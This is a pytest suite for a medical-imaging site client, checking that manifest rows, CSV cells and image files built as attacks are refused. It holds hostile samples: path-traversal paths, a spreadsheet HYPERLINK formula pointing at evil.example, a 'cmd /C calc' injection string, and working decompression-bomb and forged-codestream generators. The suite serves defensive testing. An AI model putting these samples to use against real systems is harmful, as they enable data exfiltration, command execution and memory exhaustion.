"""Hostile site input (issue 16, rows 12-14): bad manifest rows, implausible boxes, decompression bombs.

Every test builds the attack itself and checks that the site refuses exactly the bad part,
with a reason naming the file and row (never a patient id), and goes on with the rest.
"""

from __future__ import annotations

import csv
import logging
from pathlib import Path

import pytest

from client.site_data import (
    BOX_SIDE_MM,
    MAX_FIELD_CHARS,
    MAX_LINE_BYTES,
    SiteData,
    check_manifest,
)
from client.splits import write_splits
from shared_models.cli import main
from shared_models.preprocessing import PreprocessingSpec
from shared_models.safe_csv import FORMULA_PREFIXES, neutralise, restore
from tests.test_site_data import BOX_L, BOX_R, PATIENTS, box_text, study_volume, write_dicom_study

SPEC = PreprocessingSpec()
HEADER = "patient_id,study,side,ficat_stage,box_lps_mm,scanner"
A, B = PATIENTS[0], PATIENTS[1]
GOOD_ROWS = [f"{A},p1,L,0,{box_text(BOX_L)},GE 3T", f"{A},p1,R,II,{box_text(BOX_R)},GE 3T"]
HUGE = "-1e308 -1e308 -1e308 1e308 1e308 1e308"


@pytest.fixture(scope="module")
def study_root(tmp_path_factory) -> Path:
    """One good DICOM study ``p1``, written once for the module."""
    root = tmp_path_factory.mktemp("studies")
    write_dicom_study(root / "p1", study_volume())
    return root


def _site(tmp_path: Path, study_root: Path, bad_row: bytes) -> Path:
    """A site whose manifest has the two good rows of ``p1`` (lines 2, 3) and ``bad_row`` at line 4."""
    site = tmp_path / "site"
    site.mkdir()
    (site / "p1").symlink_to(study_root / "p1")
    text = "\n".join([HEADER, *GOOD_ROWS]).encode() + b"\n" + bad_row + b"\n"
    (site / "manifest.csv").write_bytes(text)
    return site


BAD_ROWS = {
    "parent path": (f"{B},../../etc,L,0,,GE".encode(), "study must be a path relative to the site root"),
    "absolute path": (f"{B},/etc/passwd,L,0,,GE".encode(), "study must be a path relative to the site root"),
    "windows drive": (f"{B},C:\\Windows,L,0,,GE".encode(), "study must be a path relative to the site root"),
    "field over the cap": (
        f"{B},p2,L,0,,{'x' * (MAX_FIELD_CHARS + 1)}".encode(),
        f"field scanner longer than {MAX_FIELD_CHARS}",
    ),
    "line over 128 KiB": (f"{B},{'y' * (130 << 10)},L,0,,GE".encode(), f"line longer than {MAX_LINE_BYTES} bytes"),
    "non-UTF-8 byte": (f"{B},p2,L,0,,GE".encode() + b"\xff\xfe", "not valid UTF-8"),
    "NUL byte": (f"{B},p2,L,0,,G\x00E".encode(), "NUL character"),
    "unterminated quote": (f'{B},"p2,L,0,,GE'.encode(), "malformed CSV"),
    "more fields": (f"{B},p2,L,0,,GE,extra".encode(), "more fields than columns"),
    "unknown side": (f"{B},p2,X,0,,GE".encode(), "side must be L or R"),
    "empty patient": (b",p2,L,0,,GE", "patient_id is empty"),
    "stage III": (f"{B},p2,L,III,,GE".encode(), "stage III is out of scope"),
    "stage IV": (f"{B},p2,L,IV,,GE".encode(), "stage IV is out of scope"),
    "unreadable stage": (f"{B},p2,L,IIb,,GE".encode(), "unreadable Ficat-Arlet stage"),
    "bad box": (f"{B},p2,L,0,1 2 3,GE".encode(), "box_lps_mm must be 6 numbers"),
    "box of 1e308 mm": (f"{B},p2,L,0,{HUGE},GE".encode(), "beyond +-2000 mm"),
    "duplicate head": (f"{A},p1,L,0,,GE".encode(), "same patient and side already appear in row 2"),
}


@pytest.mark.parametrize("kind", list(BAD_ROWS))
def test_a_bad_manifest_row_refuses_only_that_row(tmp_path, study_root, caplog, kind):
    caplog.set_level(logging.DEBUG)
    raw, reason = BAD_ROWS[kind]
    site = _site(tmp_path, study_root, raw)
    data = SiteData(site, "site-A", tmp_path / "cache", SPEC)
    # The site goes on: both good heads of p1 load.
    assert [(h.study, h.side) for h in data.heads] == [("p1", "L"), ("p1", "R")]
    assert len(data.row_refusals) == 1
    refusal = data.row_refusals[0]
    assert (refusal.file, refusal.line) == ("manifest.csv", 4)
    assert reason in refusal.reason
    refused = [v for v in data.verdicts if v.status == "refused"]
    assert (
        len(refused) == 1 and str(refusal) == refused[0].reason and refused[0].reason.startswith("manifest.csv row 4: ")
    )
    # No patient id, and none of the row's values, in the reason, the verdict label or the logs.
    texts = [refused[0].reason, refused[0].study] + [r.getMessage() for r in caplog.records]
    for text in texts:
        assert B not in text and "etc" not in text and "yyyy" not in text and "xxxx" not in text
    assert any("manifest.csv row 4" in r.getMessage() for r in caplog.records)


def test_every_bad_row_at_once_and_the_cli_summary(tmp_path, study_root, capsys):
    """All kinds in one manifest: each refused with its own row number; `site check` lists them, no traceback."""
    site = _site(tmp_path, study_root, b"\n".join(raw for raw, _ in BAD_ROWS.values()))
    heads, refusals = check_manifest(site, "site-A")
    assert [(h.study, h.side) for h in heads] == [("p1", "L"), ("p1", "R")]
    assert [r.line for r in refusals] == list(range(4, 4 + len(BAD_ROWS)))
    for refusal, (_, reason) in zip(refusals, BAD_ROWS.values()):
        assert reason in refusal.reason
    code = main(["site", "check", "--data", str(site), "--cache", str(tmp_path / "cache"), "--min-free-gb", "0"])
    out = capsys.readouterr().out
    assert code == 1  # the preflight reports the refusals (a site with refused rows is not all ok)
    assert f"{len(BAD_ROWS)} row(s) skipped" in out and "Traceback" not in out
    assert "manifest.csv" in out and "not valid UTF-8" in out and B not in out


def test_a_formula_patient_id_is_neutralised_in_split_csv_and_read_back(tmp_path, study_root):
    formula = '=HYPERLINK("http://evil.example/?x","open")'
    site = tmp_path / "S"
    site.mkdir()
    (site / "p1").symlink_to(study_root / "p1")
    (site / "manifest.csv").write_text(
        "\n".join([HEADER, f'"{formula.replace(chr(34), chr(34) * 2)}",p1,L,0,{box_text(BOX_L)},GE']) + "\n"
    )
    write_splits(tmp_path, ["S"], [], seed=0)
    with open(site / "split.csv", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not any(cell.startswith(FORMULA_PREFIXES) for cell in cells)  # nothing a spreadsheet would run
    assert "'" + formula in cells
    data = SiteData(site, "S", tmp_path / "cache", SPEC)  # the site still finds the patient's split
    assert [(h.patient_id, h.split) for h in data.heads] == [(formula, "test")]


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+2", "'=1+2"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),  # a leading quote is doubled, so reading back is exact
        ("plain", "plain"),
        ("", ""),
        ("-1.5", "-1.5"),  # numbers are data, not formulas
        ("-100 -24 -24.5 -60 24 2e1", "-100 -24 -24.5 -60 24 2e1"),
        ("-1 =2", "'-1 =2"),
        ("-100  -24 -24   -60 24 24", "-100  -24 -24   -60 24 24"),  # runs of spaces, as the box reader takes
        ("-1  =2", "'-1  =2"),
        ("- 1", "'- 1"),
        ("-1\t2", "'-1\t2"),
        ("-1 A1", "'-1 A1"),
    ],
)
def test_neutralise_is_safe_and_reversible(value, written):
    assert neutralise(value) == written
    assert restore(written) == value


def test_negative_boxes_round_trip_through_safe_dict_writer_and_the_site_reader(tmp_path):
    from client.site_data import MANIFEST_COLUMNS, _parse_box, read_site_csv
    from shared_models.safe_csv import SafeDictWriter

    boxes = ["-100 -24 -24 -60 24 24", "-100  -24 -24 -60 24 24", "-1.5e2 -2.4e1 -24 -110 24 2.4e1"]
    path = tmp_path / "manifest.csv"
    with open(path, "w", newline="") as fh:
        writer = SafeDictWriter(fh, fieldnames=list(MANIFEST_COLUMNS))
        writer.writeheader()
        writer.writerows(
            {"patient_id": f"p{i}", "study": "s", "side": "L", "ficat_stage": "0", "box_lps_mm": b, "scanner": ""}
            for i, b in enumerate(boxes)
        )
    read = [_parse_box(row["box_lps_mm"]) for _, row in read_site_csv(path, MANIFEST_COLUMNS)]
    assert read == [tuple(float(v) for v in b.split()) for b in boxes]


def test_conflicting_split_rows_refuse_that_patient_only(tmp_path, study_root):
    site = _site(tmp_path, study_root, f"{B},p1b,L,0,,GE".encode())
    (site / "split.csv").write_text(f"patient_id,split\n{A},train\n{B},train\n{B},test\n")
    data = SiteData(site, "site-A", tmp_path / "cache", SPEC)
    assert [(h.study, h.split) for h in data.heads] == [("p1", "train"), ("p1", "train")]
    reasons = [str(r) for r in data.row_refusals]
    assert reasons[0].startswith("split.csv row 4: patient already assigned to another split in row 3")
    assert reasons[1] == "manifest.csv row 4: patient has conflicting rows in split.csv"


# -- row 13: boxes ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "box",
    [
        HUGE,  # the attack: finite, ordered, and 2e308 mm wide
        "0 0 0 1e300 1e300 1e300",
        "60 -24 -24 64 -20 -20",  # 4 mm: a box in cm, or a lesion box, not a head
        "0 0 0 100 48 48",  # 100 mm wide: the whole hip
    ],
)
def test_an_implausible_box_refuses_that_head_at_site_check(tmp_path, study_root, box):
    site = _site(tmp_path, study_root, f"{B},p2,L,0,{box},GE".encode())
    heads, refusals = check_manifest(site, "site-A")
    assert len(heads) == 2 and len(refusals) == 1
    assert (
        refusals[0].line == 4 and "box_lps_mm" in refusals[0].reason and "(the L head is refused)" in refusals[0].reason
    )


def test_box_bounds_hold_every_adult_femoral_head():
    """The bounds are derived from adult femoral head diameters (~40-55 mm): each such box fits."""
    lo, hi = BOX_SIDE_MM
    assert lo <= 40.0 / 2 and 55.0 + 2 * 10 <= hi < 100.0


# -- row 14: decompression bombs, and the cache --------------------------------------------------

BOMB_FRAMES, BOMB_SIDE = 6, 4096  # DICOM: 6 x 4096^2 16-bit = 201 MB of pixels in a ~0.9 MB file
NIFTI_SHAPE = (1024, 1024, 256)  # NIfTI: 268 M int16 voxels = 537 MB in a ~2.4 MB .nii.gz
# A reader that allocates even a quarter of the smaller payload fails this bound on the
# child's peak-RSS growth (the refused DICOM's pixels: 6 * 4096^2 * 2 bytes).
PEAK_GROWTH_BOUND = BOMB_FRAMES * BOMB_SIDE**2 * 2 // 4


def _zeros(n: int, chunk: int = 1 << 22):
    block = bytes(chunk)
    while n > 0:
        yield block[: min(n, chunk)]
        n -= chunk


def write_deflated_dicom_bomb(path: Path, frames: int = BOMB_FRAMES, side: int = BOMB_SIDE) -> None:
    """A T2 multi-frame MR file in Deflated Explicit VR Little Endian whose zero pixels inflate ~1000:1.

    Written as a stream (file meta, then the zlib-deflated dataset with a PixelData element of
    ``frames * side**2 * 2`` zero bytes), so building it never holds the pixels in memory.
    """
    import struct
    import zlib

    from pydicom.dataset import Dataset
    from pydicom.filebase import DicomBytesIO
    from pydicom.filewriter import write_dataset, write_file_meta_info
    from pydicom.uid import DeflatedExplicitVRLittleEndian, generate_uid

    from tests.dicom_factory import new_mr_dataset

    ds = new_mr_dataset()
    ds.file_meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian
    ds.SeriesInstanceUID, ds.Modality, ds.SeriesDescription = generate_uid(), "MR", "t2_tse_cor"
    ds.ImageType = ["ORIGINAL", "PRIMARY"]
    ds.EchoTime, ds.RepetitionTime = 80.0, 3500.0
    ds.ImageOrientationPatient = [1, 0, 0, 0, 0, -1]
    ds.ImagePositionPatient = [-200.0, -40.0, 200.0]
    ds.PixelSpacing = [0.1, 0.1]
    ds.NumberOfFrames, ds.Rows, ds.Columns = frames, side, side
    ds.SamplesPerPixel, ds.PhotometricInterpretation = 1, "MONOCHROME2"
    ds.BitsAllocated = ds.BitsStored = 16
    ds.HighBit, ds.PixelRepresentation = 15, 0
    per_frame = []
    for k in range(frames):
        position = Dataset()
        position.ImagePositionPatient = [-200.0, -40.0 + 16.0 * k, 200.0]
        item = Dataset()
        item.PlanePositionSequence = [position]
        per_frame.append(item)
    ds.PerFrameFunctionalGroupsSequence = per_frame
    body = DicomBytesIO()
    body.is_little_endian, body.is_implicit_VR = True, False
    write_dataset(body, ds)
    n_bytes = frames * side * side * 2
    deflate = zlib.compressobj(1, zlib.DEFLATED, -zlib.MAX_WBITS)  # fast; level 9 is 4x smaller
    with open(path, "wb") as fh:
        fh.write(bytes(128) + b"DICM")
        meta = DicomBytesIO()
        write_file_meta_info(meta, ds.file_meta, enforce_standard=True)
        fh.write(meta.getvalue())
        fh.write(deflate.compress(body.getvalue() + struct.pack("<HH2sHI", 0x7FE0, 0x0010, b"OW", 0, n_bytes)))
        for block in _zeros(n_bytes):
            fh.write(deflate.compress(block))
        fh.write(deflate.flush())


def write_nifti_bomb(path: Path, shape: tuple[int, ...] = NIFTI_SHAPE) -> None:
    """A gzipped NIfTI-1 of ``shape`` int16 zeros (0.4 x 0.4 x 0.8 mm), written as a stream."""
    import gzip

    import nibabel
    import numpy as np

    header = nibabel.Nifti1Header()
    header.set_data_shape(shape)
    header.set_data_dtype(np.int16)
    affine = np.diag([0.4, 0.4, 0.8, 1.0])
    header.set_sform(affine, code=1)
    header.set_qform(affine, code=1)
    header["vox_offset"] = 352
    with gzip.open(path, "wb", compresslevel=1) as fh:
        header.write_to(fh)
        fh.write(bytes(4))  # no extensions
        for block in _zeros(int(np.prod(shape)) * 2):
            fh.write(block)


# Run in a child process so that its peak RSS is the site's alone: load a one-study site and
# report the verdict, the peak-RSS growth over the imported baseline, and what the cache holds.
CHILD = """
import json, resource, sys
from pathlib import Path
from client.site_data import SiteData
from shared_models.preprocessing import PreprocessingSpec
site, cache = Path(sys.argv[1]), Path(sys.argv[2])
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
data = SiteData(site, "S", cache, PreprocessingSpec())
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
left = sorted(str(p.relative_to(cache)) for p in cache.rglob("*")) if cache.exists() else []
print(json.dumps({"verdicts": [[v.study, v.status, v.reason] for v in data.verdicts],
                  "baseline_rss": before, "peak_rss": after, "cache": left}))
"""


def run_site_child(site: Path, cache: Path) -> dict:
    """Load ``site`` in a fresh interpreter; return the child's report (see ``CHILD``)."""
    import json
    import subprocess
    import sys

    done = subprocess.run(
        [sys.executable, "-c", CHILD, str(site), str(cache)],
        capture_output=True,
        text=True,
        timeout=600,
        cwd=Path(__file__).resolve().parents[1],
    )
    assert done.returncode == 0, done.stderr[-2000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


@pytest.fixture(scope="module")
def bomb_sites(tmp_path_factory) -> dict[str, Path]:
    """Two one-study sites: a deflated DICOM bomb and a NIfTI.gz bomb, each with a plausible manifest row."""
    root = tmp_path_factory.mktemp("bombs")
    sites = {}
    for kind, study in (("dicom", "bomb"), ("nifti", "bomb.nii.gz")):
        site = root / kind
        site.mkdir()
        if kind == "dicom":
            (site / study).mkdir()
            write_deflated_dicom_bomb(site / study / "IM0001")
        else:
            write_nifti_bomb(site / study)
        (site / "manifest.csv").write_text(f"{HEADER}\n{A},{study},L,0,,GE\n")
        sites[kind] = site
    return sites


@pytest.mark.parametrize("kind", ["dicom", "nifti"])
def test_a_decompression_bomb_is_refused_before_decoding(bomb_sites, tmp_path, kind):
    site = bomb_sites[kind]
    size = sum(p.stat().st_size for p in site.rglob("*") if p.is_file())
    declared = BOMB_FRAMES * BOMB_SIDE**2 * 2 if kind == "dicom" else 2 * 1024 * 1024 * 256
    assert declared > 100 * size  # the attack is small on disk
    report = run_site_child(site, tmp_path / "cache")
    [(study, status, reason)] = report["verdicts"]
    assert status == "refused"
    if kind == "dicom":
        assert "deflated DICOM file inflates to more than" in reason
    else:
        assert "declares 268,435,456 voxels" in reason and "1024 x 1024 x 256" in reason
    growth = report["peak_rss"] - report["baseline_rss"]
    assert growth < PEAK_GROWTH_BOUND, f"peak RSS grew by {growth / 2**20:.0f} MiB"
    assert report["cache"] == []  # nothing cached for the refused study


def test_declared_sizes_over_the_cap_are_refused_from_headers(tmp_path):
    """One file over the cap, and a series whose files are each under it but together over it."""
    from client.dicom_series import SeriesError, read_study

    study = tmp_path / "s"
    study.mkdir()
    write_deflated_dicom_bomb(study / "IM1", frames=2, side=64)  # one file of 2 x 64^2 = 8192 voxels
    with pytest.raises(SeriesError, match="a DICOM file declares 8,192 voxels, more than the 8,000"):
        read_study(study, max_voxels=8000)
    assert read_study(study, max_voxels=8192).GetSize() == (64, 64, 2)  # at the cap it reads
    write_dicom_study(tmp_path / "t", study_volume())  # 12 single-frame files of 16 x 40 = 640 voxels
    with pytest.raises(SeriesError, match="the series declares 7,040 voxels, more than the 7,000"):
        read_study(tmp_path / "t", max_voxels=7000)  # refused at the 11th file's header, before decoding
    assert read_study(tmp_path / "t", max_voxels=12 * 640).GetSize() == (40, 16, 12)


def test_a_study_refused_after_reading_leaves_no_cache_entry(tmp_path, study_root):
    """A study that reads fine but is refused (a box outside its hemi field of view) caches nothing."""
    site = _site(tmp_path, study_root, b"")
    text = (site / "manifest.csv").read_text().replace(box_text(BOX_L), "-100 -24 -24 -60 24 24")  # R box on L
    (site / "manifest.csv").write_text(text)
    data = SiteData(site, "site-A", tmp_path / "cache", SPEC)
    assert [v.status for v in data.verdicts] == ["refused"] and "outside its hemi field of view" in data.verdicts[
        0
    ].reason
    assert list((tmp_path / "cache").iterdir()) == []


def test_site_split_cli_lists_skipped_rows_and_writes_the_good_patients(tmp_path, capsys):
    site = tmp_path / "S"
    site.mkdir()
    rows = [f"P{i:02d},s{i},L,0,,GE".encode() for i in range(10)]
    rows[3] = b"P03,../../etc,L,0,,GE"
    rows[7] = b"P07,s7,L,0,,G\xffE"
    (site / "manifest.csv").write_bytes(HEADER.encode() + b"\n" + b"\n".join(rows) + b"\n")
    code = main(["site", "split", "--data", str(site), "--seed", "1"])
    out = capsys.readouterr().out
    assert code == 0 and "2 row(s) skipped" in out and "Traceback" not in out
    assert "study must be a path relative to the site root" in out and "not valid UTF-8" in out
    with open(site / "split.csv", newline="") as fh:
        patients = {r["patient_id"] for r in csv.DictReader(fh)}
    assert patients == {f"P{i:02d}" for i in range(10)} - {"P03", "P07"}


@pytest.mark.parametrize(
    "content, message",
    [
        (b"patient_id,study,side,ficat_stage,box_lps_mm,scan\xffner\n", r"header \(row 1\): not valid UTF-8"),
        (b'"patient_id,study\n', r"header \(row 1\): malformed CSV"),
        (b"patient_id,study,side\nP1,s,L\n", r"missing column\(s\) ficat_stage, box_lps_mm, scanner"),
        (b"", r"empty file"),
    ],
)
def test_an_unusable_manifest_header_is_one_clear_error(tmp_path, content, message):
    """Only the file as a whole can refuse the site, with a ValueError naming it (never a csv.Error)."""
    (tmp_path / "manifest.csv").write_bytes(content)
    with pytest.raises(ValueError, match=message) as err:
        check_manifest(tmp_path, "S")
    assert str(tmp_path / "manifest.csv") in str(err.value)
    assert main(["site", "check", "--data", str(tmp_path), "--min-free-gb", "0"]) == 1  # an error line, no traceback


# -- codestream bombs: a compressed frame that declares more pixels than its DICOM header --------


def _j2k_study(folder: Path, rows: int = 32, columns: int = 40, slices: int = 3):
    """A JPEG 2000 Lossless study of ``slices`` files of ``rows x columns``; returns (volume, paths).

    Rows of 32 or more: OpenJPEG's default six resolution levels refuse smaller images.
    """
    import numpy as np
    import pydicom
    from pydicom.uid import JPEG2000Lossless

    volume = np.random.default_rng(3).integers(0, 4000, size=(slices, rows, columns)).astype(np.float64)
    paths = write_dicom_study(folder, volume)
    for path in paths:
        ds = pydicom.dcmread(path)
        ds.compress(JPEG2000Lossless)
        ds.save_as(path, enforce_file_format=True)
    return volume, paths


def _declare_j2k_size(path: Path, rows: int, columns: int) -> None:
    """Rewrite the SIZ segment of ``path``'s codestream to declare ``rows x columns`` (same byte length)."""
    import struct

    data = bytearray(path.read_bytes())
    at = data.find(b"\xff\x4f\xff\x51")
    assert at > 0
    data[at + 8 : at + 24] = struct.pack(">IIII", columns, rows, 0, 0)  # Xsiz, Ysiz, XOsiz, YOsiz
    path.write_bytes(bytes(data))


def _no_decoding(monkeypatch) -> None:
    import pydicom

    def refuse(self):
        pytest.fail("pixel data was decoded")

    monkeypatch.setattr(pydicom.Dataset, "pixel_array", property(refuse))


def test_a_jpeg2000_study_reads_the_same_pixels(tmp_path):
    """The codestream check passes a valid JPEG 2000 study, which decodes to the pixels written."""
    import numpy as np
    import pydicom
    import SimpleITK as sitk
    from pydicom.uid import JPEG2000Lossless

    from client.dicom_series import read_study

    volume, paths = _j2k_study(tmp_path / "s")
    assert all(
        pydicom.dcmread(p, stop_before_pixels=True).file_meta.TransferSyntaxUID == JPEG2000Lossless for p in paths
    )
    image = read_study(tmp_path / "s")
    # the writer's layout: file k at slice k along the normal, its rows along the column cosine
    np.testing.assert_array_equal(sitk.GetArrayFromImage(image), volume.astype(np.float32))


@pytest.mark.parametrize("side", [20000, 65535])
def test_a_jpeg2000_codestream_larger_than_its_header_is_refused_before_decoding(tmp_path, monkeypatch, side):
    from client.dicom_series import SeriesError, read_study

    _, paths = _j2k_study(tmp_path / "s")
    _declare_j2k_size(paths[1], side, side)
    assert paths[1].stat().st_size < 4000  # a few KB on disk, a 2-8 GB frame to the decoder
    _no_decoding(monkeypatch)
    with pytest.raises(
        SeriesError,
        match=f"JPEG 2000 codestream declares {side} x {side} pixels but the DICOM "
        r"header 32 x 40; refused before decoding",
    ) as err:
        read_study(tmp_path / "s")
    assert err.value.study == str(tmp_path / "s")


def test_a_jpeg2000_codestream_smaller_than_its_header_or_unreadable_is_refused(tmp_path, monkeypatch):
    from client.dicom_series import SeriesError, read_study

    _, paths = _j2k_study(tmp_path / "s")
    _declare_j2k_size(paths[0], 32, 39)
    _no_decoding(monkeypatch)
    with pytest.raises(SeriesError, match="declares 32 x 39 pixels but the DICOM header 32 x 40"):
        read_study(tmp_path / "s")
    data = paths[0].read_bytes()
    paths[0].write_bytes(data.replace(b"\xff\x4f\xff\x51", b"\x00\x4f\x00\x51", 1))  # no SOC+SIZ any more
    with pytest.raises(SeriesError, match="a JPEG 2000 frame has no readable codestream header"):
        read_study(tmp_path / "s")


def _jpeg_header(sof: int, rows: int, columns: int) -> bytes:
    """SOI, an APP0 segment, a DQT segment, then an SOFn frame header (ITU-T T.81 B.2.2) of one component."""
    import struct

    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00" + bytes(9)
    dqt = b"\xff\xdb" + struct.pack(">H", 67) + bytes(65)
    frame = b"\xff" + bytes([sof]) + struct.pack(">HBHHB", 11, 8, rows, columns, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + app0 + b"\xff\xff" + dqt + frame + b"\xff\xda"  # one fill byte before DQT


@pytest.mark.parametrize("sof", [0xC0, 0xC1, 0xC3, 0xF7])  # baseline, extended, lossless, JPEG-LS
def test_jpeg_frame_headers_give_their_declared_size(sof):
    from client.dicom_series.decode import _jpeg_size

    assert _jpeg_size(_jpeg_header(sof, 300, 4097)) == (300, 4097)
    assert _jpeg_size(_jpeg_header(0xC4, 300, 4097)) is None  # DHT is not a frame header: scan reached first
    assert _jpeg_size(b"\x00" + _jpeg_header(sof, 3, 4)[1:]) is None  # no SOI


def test_a_jpeg_codestream_larger_than_its_header_is_refused_before_decoding(tmp_path, monkeypatch):
    """JPEG Lossless frames whose SOF3 declares 65535 x 65535 in files whose header says 32 x 40."""
    import pydicom
    from pydicom.encaps import encapsulate
    from pydicom.uid import JPEGLosslessSV1

    from client.dicom_series import SeriesError, read_study

    _, paths = _j2k_study(tmp_path / "s")
    for path in paths:
        ds = pydicom.dcmread(path)
        ds.file_meta.TransferSyntaxUID = JPEGLosslessSV1
        ds.PixelData = encapsulate([_jpeg_header(0xC3, 65535, 65535) + bytes(16) + b"\xff\xd9"])
        ds.save_as(path, enforce_file_format=True)
    _no_decoding(monkeypatch)
    with pytest.raises(
        SeriesError, match="a JPEG codestream declares 65535 x 65535 pixels but the DICOM header 32 x 40"
    ):
        read_study(tmp_path / "s")


# -- non-finite NIfTI geometry ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "where, value, message",
    [
        ((0, 0), float("nan"), "not finite"),  # spacing (nan, 2, 2)
        ((1, 3), float("inf"), "not finite"),  # origin
        ((2, 1), float("nan"), "not finite"),  # direction
        ((0, 0), 0.0, "shear or zero scale"),  # zero spacing
    ],
)
def test_a_nifti_with_non_finite_or_zero_geometry_is_refused_naming_the_file(tmp_path, where, value, message):
    import nibabel
    import numpy as np

    from client.dicom_series import SeriesError, read_study

    affine = np.diag([2.0, 2.0, 2.0, 1.0])
    affine[where] = value
    nii = nibabel.Nifti1Image(np.ones((8, 8, 8), dtype=np.int16), None)
    nii.header.set_sform(affine, code=1)
    nii.header.set_qform(None, code=0)
    path = tmp_path / "study.nii.gz"
    nibabel.save(nii, path)
    assert np.array_equal(np.isnan(nibabel.load(path).header.get_best_affine()), np.isnan(affine))  # as written
    with pytest.raises(SeriesError, match=message) as err:
        read_study(path)
    assert err.value.study == str(path)


def test_the_site_extent_check_fails_closed_on_nan_spacing(tmp_path):
    from client.dicom_series import SeriesError

    good = {"shape": [40, 120, 160], "spacing_mm": [2.0, 2.0, 2.0]}  # 320 x 240 x 80 mm
    SiteData._check_extent(tmp_path / "s", good)  # passes
    with pytest.raises(SeriesError, match="field of view too small"):
        SiteData._check_extent(tmp_path / "s", {**good, "spacing_mm": [2.0, 2.0, float("nan")]})
